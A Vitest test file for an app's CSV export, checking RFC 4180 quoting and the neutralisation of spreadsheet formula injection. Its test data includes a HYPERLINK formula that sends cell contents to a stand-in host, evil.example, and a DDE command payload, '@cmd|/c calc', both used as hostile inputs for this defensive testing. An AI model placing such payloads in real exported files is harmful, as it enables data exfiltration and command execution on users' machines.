/** The one CSV writer: RFC 4180 quoting, and no formula from a hostile name reaches a spreadsheet. */
import { describe, expect, it } from 'vitest';
import { resultsCsv } from '../../src/lib/browse/csv';
import { barChartFor } from '../../src/lib/charts/bar';
import { chartCsv } from '../../src/lib/charts/csv';
import { csvCell, csvTable } from '../../src/lib/csv';
import type { Dataset } from '../../src/lib/dataset';
import { toCsv } from '../../src/lib/export';
import { validateCase } from '../support/fixtures';

const data = validateCase().dataset;
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"GLM")';

describe('csvCell', () => {
  it('neutralises text that a spreadsheet would run as a formula', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+cmd')).toBe("'+cmd");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
    expect(csvCell(HOSTILE)).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""GLM"")"`);
  });
  it('leaves numbers, booleans and ordinary text alone', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(1e308)).toBe('1e+308');
    expect(csvCell(false)).toBe('false');
    expect(csvCell('GLM-5.2 = best?')).toBe('GLM-5.2 = best?');
    expect(csvTable(['a', 'b'], [[1, 'x'], [null, '-y']])).toBe("a,b\r\n1,x\r\n,'-y\r\n");
  });
});

describe('downloads with a hostile model name and note', () => {
  const modelId = data.results.find((r) => r.benchmark === 'bench-pct')!.model;
  const hostile: Dataset = {
    ...data,
    models: new Map([...data.models].map(([id, m]) => [id, id === modelId ? { ...m, name: HOSTILE } : m])),
    results: data.results.map((r) => ({ ...r, note: '@cmd|/c calc' })),
  };
  it('chart CSV: the name is text, not a formula; the score stays a number', () => {
    const csv = chartCsv(barChartFor(hostile, 'bench-pct')!);
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const row = data.results.find((r) => r.model === modelId && r.benchmark === 'bench-pct')!;
    expect(csv).toContain(`,${row.score},`);
  });
  it('results CSV: the note is text, not a formula', () => {
    const csv = resultsCsv(hostile);
    expect(csv).toContain(",'@cmd|/c calc\r\n");
    expect(csv).not.toMatch(/,@cmd/);
  });
  it('the /data/results.csv export goes through the same writer', () => {
    expect(toCsv([{ model: HOSTILE, score: -3 }], ['model', 'score'])).toBe(`model,score\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""GLM"")",-3\r\n`);
  });
});
